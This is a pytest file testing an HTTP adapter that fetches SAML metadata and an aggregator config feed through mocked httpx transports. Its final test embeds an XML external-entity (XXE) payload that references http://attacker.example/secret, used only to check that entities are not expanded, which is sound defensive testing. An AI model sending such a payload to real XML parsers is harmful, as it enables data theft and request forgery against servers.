from __future__ import annotations

from collections.abc import Callable  # noqa: TC003

import httpx
import pytest

from metadata_aggregator.adapters.http_feeds import HttpConfigFeed, HttpMetadataSource
from metadata_aggregator.config import SourceSettings
from metadata_aggregator.domain.errors import ConfigFetchError, SourceFetchError

METADATA_URL = "https://eidas.country-a.example/ConnectorMetadata"
CONFIG_URL = "https://config.example/aggregator.json"
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="a"/>'
)


def _make_client_factory(
    handler: Callable[[httpx.Request], httpx.Response],
    seen: list[httpx.Request] | None = None,
) -> Callable[[SourceSettings], httpx.Client]:
    def recording_handler(request: httpx.Request) -> httpx.Response:
        if seen is not None:
            seen.append(request)
        return handler(request)

    def factory(settings: SourceSettings) -> httpx.Client:
        return httpx.Client(
            transport=httpx.MockTransport(recording_handler),
            headers={"User-Agent": settings.user_agent},
            timeout=settings.timeout_seconds,
        )

    return factory


def test_source_returns_document_bytes() -> None:
    seen: list[httpx.Request] = []
    source = HttpMetadataSource(
        settings=SourceSettings(user_agent="aggregator-test"),
        client_factory=_make_client_factory(lambda _: httpx.Response(200, content=DOCUMENT), seen),
    )

    assert source.fetch_document(METADATA_URL) == DOCUMENT
    assert str(seen[0].url) == METADATA_URL
    assert seen[0].headers["User-Agent"] == "aggregator-test"


@pytest.mark.parametrize("status", [404, 500, 503])
def test_source_error_status_raises(status: int) -> None:
    source = HttpMetadataSource(
        client_factory=_make_client_factory(lambda _: httpx.Response(status, content=b"nope")),
    )

    with pytest.raises(SourceFetchError, match=str(status)) as exc:
        source.fetch_document(METADATA_URL)

    assert exc.value.url == METADATA_URL


def test_source_transport_error_raises() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    source = HttpMetadataSource(client_factory=_make_client_factory(handler))

    with pytest.raises(SourceFetchError, match="Unable to reach"):
        source.fetch_document(METADATA_URL)


def test_source_timeout_raises() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        raise httpx.ReadTimeout("timed out", request=request)

    source = HttpMetadataSource(client_factory=_make_client_factory(handler))

    with pytest.raises(SourceFetchError):
        source.fetch_document(METADATA_URL)


@pytest.mark.parametrize("body", [b"", b"   \n", b"<html><body>maintenance", b"not xml"])
def test_source_rejects_non_metadata_bodies(body: bytes) -> None:
    source = HttpMetadataSource(
        client_factory=_make_client_factory(lambda _: httpx.Response(200, content=body)),
    )

    with pytest.raises(SourceFetchError):
        source.fetch_document(METADATA_URL)


def test_config_feed_returns_declared_urls() -> None:
    payload = {
        "metadataUrls": {
            "NL": "https://nl.example/md",
            "SE": "https://se.example/md",
            "SE-duplicate": "https://se.example/md",
        }
    }
    feed = HttpConfigFeed(
        url=CONFIG_URL,
        client_factory=_make_client_factory(lambda _: httpx.Response(200, json=payload)),
    )

    assert feed.fetch_source_urls() == frozenset({"https://nl.example/md", "https://se.example/md"})


def test_config_feed_http_error_raises() -> None:
    feed = HttpConfigFeed(
        url=CONFIG_URL,
        client_factory=_make_client_factory(lambda _: httpx.Response(502)),
    )

    with pytest.raises(ConfigFetchError):
        feed.fetch_source_urls()


def test_config_feed_invalid_document_raises() -> None:
    feed = HttpConfigFeed(
        url=CONFIG_URL,
        client_factory=_make_client_factory(lambda _: httpx.Response(200, json={"urls": []})),
    )

    with pytest.raises(ConfigFetchError, match="Invalid aggregator config"):
        feed.fetch_source_urls()


MALFORMED_URLS = [
    "https://country-a.example/\x01metadata",
    "https://" + "a" * 70 + ".example/metadata",
]


def _unreachable(request: httpx.Request) -> httpx.Response:
    raise AssertionError(f"unexpected request to {request.url}")


@pytest.mark.parametrize("url", MALFORMED_URLS)
def test_source_malformed_url_raises(url: str) -> None:
    source = HttpMetadataSource(client_factory=_make_client_factory(_unreachable))

    with pytest.raises(SourceFetchError) as exc:
        source.fetch_document(url)

    assert exc.value.url == url


@pytest.mark.parametrize("url", MALFORMED_URLS)
def test_config_feed_malformed_url_raises(url: str) -> None:
    feed = HttpConfigFeed(url=url, client_factory=_make_client_factory(_unreachable))

    with pytest.raises(ConfigFetchError):
        feed.fetch_source_urls()


def test_source_does_not_expand_external_entities() -> None:
    document = (
        b'<?xml version="1.0"?>'
        b'<!DOCTYPE md [<!ENTITY leak SYSTEM "http://attacker.example/secret">]>'
        b"<md>&leak;</md>"
    )
    source = HttpMetadataSource(
        client_factory=_make_client_factory(lambda _: httpx.Response(200, content=document)),
    )

    assert source.fetch_document(METADATA_URL) == document
